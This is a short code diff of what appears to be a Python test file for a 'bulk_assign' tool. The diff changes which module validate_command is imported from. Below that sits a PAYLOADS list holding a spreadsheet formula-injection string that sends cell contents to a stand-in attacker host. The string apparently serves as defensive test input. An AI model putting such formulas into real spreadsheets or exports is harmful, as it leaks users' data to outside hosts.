@@ -20,7 +20,7 @@ import sys
 import tempfile
 from pathlib import Path
 
-from bulk_assign.commands.run import validate_command
+from bulk_assign.commands.validate import validate_command
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
